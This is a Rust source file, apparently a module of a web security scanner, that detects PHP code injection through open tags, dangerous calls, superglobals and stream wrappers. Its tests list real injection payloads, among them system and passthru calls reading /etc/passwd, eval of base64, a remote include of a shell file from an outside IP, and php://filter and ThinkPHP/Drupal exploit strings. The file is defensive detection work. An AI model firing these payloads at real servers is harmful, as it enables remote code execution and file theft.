//! Programs in PHP, and its way of reading files (CWE-94): open tags, calls that run things, wrappers of streams.

mod probes;

use std::sync::LazyLock;

use super::bytes::{Texts, begins, blanks, find, is_boundary, is_one_of, rest, word, word_before};
use super::{Analyzer, Matches, Rule, Text};

static TAG: Rule = Rule {
    name: "open_tag",
    score: 5,
    message: "A value begins a program in PHP.",
};

static TAG_IN_TEXT: Rule = Rule {
    name: "open_tag_in_text",
    score: 2,
    message: "A text contains the beginning of a program in PHP.",
};

static INPUT: Rule = Rule {
    name: "input_variable",
    score: 5,
    message: "A call in PHP is given what a request carries.",
};

static CALL: Rule = Rule {
    name: "call",
    score: 5,
    message: "A value calls a function of PHP that runs programs, includes files or tells how the server is set up.",
};

static CALL_IN_TEXT: Rule = Rule {
    name: "call_in_text",
    score: 2,
    message: "A text contains a call of a function of PHP that runs programs, includes files or tells how a server is set up.",
};

static WRAPPER: Rule = Rule {
    name: "stream_wrapper",
    score: 5,
    message: "A value names a stream of PHP that reads the request, files in archives, or a program's output.",
};

pub(super) static ANALYZER: Analyzer = Analyzer {
    class: "php_injection",
    cwe: 94,
    gates: &[
        r"<\?",
        r"\{\$\{",
        r"\$_(?:get|post|request|cookie|server|files|env|session)",
        r"\$GLOBALS",
        r"php://|phar://|expect://|zip://|ogg://|zlib:|compress\.",
        r"convert\.(?:iconv|base64)",
        r"(?:system|passthru|exec|popen|proc_open|assert|eval|phpinfo|call_user_func|create_function|include|require|include_once|require_once|file_get_contents|file_put_contents|base64_decode|readfile|show_source|highlight_file|fopen|unlink|print_r|var_dump|scandir)\s*\(",
        r"(?:ini_set|__halt_compiler|md5|sha1|array_map|array_filter|usort|register_shutdown_function|iterator_apply|array_walk|preg_replace_callback)\s*\(",
        r"(?:allow_url_include|auto_prepend_file|auto_append_file|open_basedir|disable_functions|suhosin\.simulation)",
        r"call_user_func_array|think.(?:app|config)|invokefunction|__construct",
        r"#(?:post_render|pre_render|lazy_builder|access_callback)",
        r"(?:str_rot13|strrev|hex2bin|gzinflate)\(.*\)\(",
        r"chr\(\d+\)\s*\.",
        r"\(['\x22][a-z0-9_]*['\x22] ?\. ?['\x22].*\)\(",
    ],
    rules: &[
        &TAG,
        &TAG_IN_TEXT,
        &INPUT,
        &CALL,
        &CALL_IN_TEXT,
        &WRAPPER,
        &probes::SETTING,
        &probes::PROBE,
        &probes::PUT_TOGETHER,
    ],
    longest: usize::MAX,
    analyze,
};

/// Functions that run what they are given, of which no other language has one.
const SURE: [&str; 16] = [
    "ini_set",
    "__halt_compiler",
    "passthru",
    "shell_exec",
    "proc_open",
    "pcntl_exec",
    "phpinfo",
    "call_user_func",
    "call_user_func_array",
    "create_function",
    "file_put_contents",
    "show_source",
    "highlight_file",
    "base64_decode",
    "readfile",
    "php_uname",
];

/// Those that other languages have, too: they count where what they are given is PHP, or is a command or address in quotes.
const COMMON: [&str; 14] = [
    "system",
    "exec",
    "popen",
    "assert",
    "eval",
    "include",
    "require",
    "include_once",
    "require_once",
    "file_get_contents",
    "fopen",
    "unlink",
    "print_r",
    "scandir",
];

/// Functions that call the one whose name they are given.
const CALLING: [&str; 9] = [
    "array_map",
    "array_filter",
    "array_walk",
    "usort",
    "uasort",
    "register_shutdown_function",
    "iterator_apply",
    "preg_replace_callback",
    "ob_start",
];

static INPUTS: LazyLock<Texts> = LazyLock::new(|| {
    let inputs: [&[u8]; 9] = [
        b"$_get",
        b"$_post",
        b"$_request",
        b"$_cookie",
        b"$_server",
        b"$_files",
        b"$_env",
        b"$_session",
        b"$globals",
    ];
    Texts::new(inputs)
});

static WRAPPERS: LazyLock<Texts> = LazyLock::new(|| {
    let wrappers: [&[u8]; 12] = [
        b"php://filter",
        b"php://input",
        b"php://fd",
        b"php://memory",
        b"phar://",
        b"expect://",
        b"zip://",
        b"ogg://",
        b"compress.zlib://",
        b"convert.iconv.",
        b"convert.base64-",
        b"compress.bzip2://",
    ];
    Texts::new(wrappers)
});

fn analyze(text: &Text<'_>, matches: &mut Matches) {
    let bytes = text.bytes;
    let is_document = text.is_document();
    let inputs = INPUTS
        .find(bytes)
        .map(|(_, range)| range)
        .find(|range| matches!(bytes.get(range.end), Some(b'[' | b'{')));
    tags(bytes, is_document, matches);
    // Documentation names them, too; where one is to be opened it begins the value, or an argument.
    // Looked for once, not anew before each of them.
    let first = bytes.iter().position(u8::is_ascii_alphanumeric);
    for (_, range) in WRAPPERS.find(bytes) {
        let begins = first.is_none_or(|first| first >= range.start);
        if is_boundary(bytes, range.start) && (begins || !is_document) {
            matches.add(&WRAPPER, range);
        }
    }
    if let Some(input) = inputs {
        let behind = find(bytes, b"(", 0).is_some() || find(bytes, b"=", 0).is_some();
        if behind
            && (!is_document
                || find(bytes, b"eval(", 0).is_some()
                || find(bytes, b"system(", 0).is_some())
        {
            matches.add(&INPUT, input);
        }
    }
    // `{${…}}` in a text of PHP runs what is within.
    if let Some(at) = find(bytes, b"{${", 0).filter(|_| !is_document) {
        let name = word(rest(bytes, at + 3));
        if !name.is_empty() && rest(bytes, at + 3 + name.len()).starts_with(b"(") {
            matches.add(&CALL, at..at + 4 + name.len());
        }
    }
    if !is_document {
        probes::all(bytes, matches);
    }
    calls(
        bytes,
        if is_document { &CALL_IN_TEXT } else { &CALL },
        matches,
    );
}

/// Adds open tags. XML has its own: `<?xml`.
fn tags(bytes: &[u8], is_document: bool, matches: &mut Matches) {
    let mut at = 0;
    while let Some(start) = memchr::memmem::find(rest(bytes, at), b"<?").map(|found| at + found) {
        at = start + 2;
        let inner = rest(bytes, at);
        let short = matches!(inner, [b' ' | b'\n' | b'\t' | b'`' | b'$', ..])
            && inner.iter().take(256).any(|byte| *byte == b';');
        if begins(inner, b"php") || inner.starts_with(b"=") || short {
            let dangerous = SURE
                .iter()
                .chain(&COMMON)
                .any(|name| find(inner, name.as_bytes(), 0).is_some())
                || INPUTS.find(inner).next().is_some();
            let rule = if is_document && !dangerous {
                &TAG_IN_TEXT
            } else {
                &TAG
            };
            matches.add(rule, start..(start + 5).min(bytes.len()));
            return;
        }
    }
}

/// Adds calls of functions that run or read things.
fn calls(bytes: &[u8], rule: &'static Rule, matches: &mut Matches) {
    for open in memchr::memchr_iter(b'(', bytes).take(512) {
        let before = bytes.get(..open).unwrap_or_default();
        let gap = before
            .iter()
            .rev()
            .take(8)
            .take_while(|byte| byte.is_ascii_whitespace())
            .count();
        let before = before.get(..open - gap).unwrap_or_default();
        let name = word_before(before, before.len());
        let len = name.len();
        let prefix = before
            .len()
            .checked_sub(len + 1)
            .and_then(|at| before.get(at));
        // A method of some object is none of these.
        if matches!(prefix, Some(b'.' | b'>' | b':' | b'$')) {
            continue;
        }
        let argument = rest(bytes, open + 1);
        let argument = rest(argument, blanks(argument).min(8));
        let range = open - gap - len..open + 1;
        // `phpinfo() shows settings` is a sentence.
        if matches!(argument, [b')', b' ', letter, ..] if letter.is_ascii_alphabetic()) {
            continue;
        }
        let calls_another = || is_one_of(name, &CALLING) && gap == 0 && names_function(argument);
        if (is_one_of(name, &SURE) && gap == 0)
            || (is_one_of(name, &COMMON) && is_php(argument))
            || calls_another()
        {
            matches.add(rule, range);
        }
    }
}

/// Whether an argument is the name, in quotes, of a function that runs things.
fn names_function(argument: &[u8]) -> bool {
    let [b'\'' | b'"', inner @ ..] = argument else {
        return false;
    };
    let name = word(inner);
    matches!(rest(inner, name.len()).first(), Some(b'\'' | b'"'))
        && (is_one_of(name, &SURE) || is_one_of(name, &COMMON))
}

/// Whether an argument is a variable of PHP, a further call, or a quoted command or address.
fn is_php(argument: &[u8]) -> bool {
    match argument {
        [b'$', b'a'..=b'z' | b'A'..=b'Z' | b'_' | b'{', ..] => true,
        [b'\'' | b'"', inner @ ..] => {
            let len = inner
                .iter()
                .take(256)
                .take_while(|byte| !matches!(byte, b'\'' | b'"'))
                .count();
            let inner = inner.get(..len).unwrap_or_default();
            let command = word(inner);
            find(inner, b"://", 0).is_some()
                || inner.starts_with(b"/")
                || inner.starts_with(b"..")
                || is_one_of(
                    command,
                    &[
                        "id", "ls", "cat", "whoami", "uname", "pwd", "dir", "ping", "sleep",
                        "curl", "wget", "nc", "bash", "sh", "echo", "type", "net", "ipconfig",
                        "ifconfig",
                    ],
                )
        }
        _ => is_one_of(
            word(argument),
            &[
                "base64_decode",
                "gzinflate",
                "str_rot13",
                "chr",
                "hex2bin",
                "strrev",
                "gzuncompress",
                "implode",
            ],
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::{found, found_at};
    use super::*;
    use crate::request::PlaceKind;

    #[test]
    fn programs_calls_and_wrappers_are_found() {
        for (rule, text) in [
            ("open_tag", "<?php system('id'); ?>"),
            ("open_tag", "<?=`id`?>"),
            ("open_tag", "GIF89a<?php phpinfo();"),
            ("open_tag", "<? echo 1; ?>"),
            ("input_variable", "eval($_POST['x'])"),
            ("input_variable", "$a=$_GET[0];$a($_GET[1])"),
            ("call", "phpinfo()"),
            ("call", "system('id')"),
            ("call", "include('http://198.51.100.7/shell.txt')"),
            ("call", "x');passthru('cat /etc/passwd');//"),
            ("call", "assert($a)"),
            ("call", "eval(base64_decode('eA=='))"),
            (
                "stream_wrapper",
                "php://filter/convert.base64-encode/resource=index",
            ),
            ("stream_wrapper", "convert.iconv.CP285.CP280"),
            ("stream_wrapper", "expect://id"),
            ("stream_wrapper", "phar://a.jpg/b"),
            ("call", "array_map('system',array('id'))"),
            ("call", "ini_set('open_basedir','..');"),
            ("call", "call_user_func_array"),
            ("call", "__construct"),
            ("call", "{${sleep(hexdec(dechex(20)))}}"),
            ("call", "index/think\\config/get"),
            ("call", "mail[#post_render][]"),
            ("call", "/index/\\think\\app/invokefunction"),
            ("setting", "-d allow_url_include=on"),
            ("setting", "auto_prepend_file = php://input"),
            ("probe", "print(md5(31337));"),
            ("probe", "';echo md5('x');//"),
            ("probe", "die(md5(1))"),
            ("name_put_together", "str_rot13('flfgrz')('id')"),
            ("name_put_together", "chr(115).chr(121).chr(115)"),
            ("name_put_together", "('sys'.'tem')('id')"),
        ] {
            assert!(found(&ANALYZER, text).contains(&rule), "{rule}: {text}");
        }
    }

    #[test]
    fn other_programs_and_prose_are_not() {
        for text in [
            "<?xml version=\"1.0\"?>",
            "re.exec(text)",
            "the system (id 5) runs",
            "include(s) all taxes",
            "os.system('id')",
            "require('lodash')",
            "assert(x == 1)",
            "my PHP version is 8",
            "eval(x)",
            "a <? b",
            "array_map('trim', $list)",
            "set open_basedir in php.ini",
            "the md5(sum) of print (large)",
            "hash = md5(password)",
            "ord('a') + chr(97)",
            "f('a')('b')",
            "call_user_func is slow",
            "parent::__construct()",
            "phpinfo() shows settings",
            "#post_render is a hook",
        ] {
            assert_eq!(found(&ANALYZER, text), [""; 0], "{text}");
        }
        let document = format!("<?php echo 'hello'; ?> {}", "text about PHP ".repeat(50));
        let found = found_at(&ANALYZER, document.as_bytes(), PlaceKind::Body);
        assert_eq!(found, ["open_tag_in_text"]);
    }

    /// Known miss: a function that is called by a name put together.
    #[test]
    fn names_put_together_are_missed() {
        assert_eq!(found(&ANALYZER, "$f='sys'.'tem';$f('id')"), [""; 0]);
    }
}
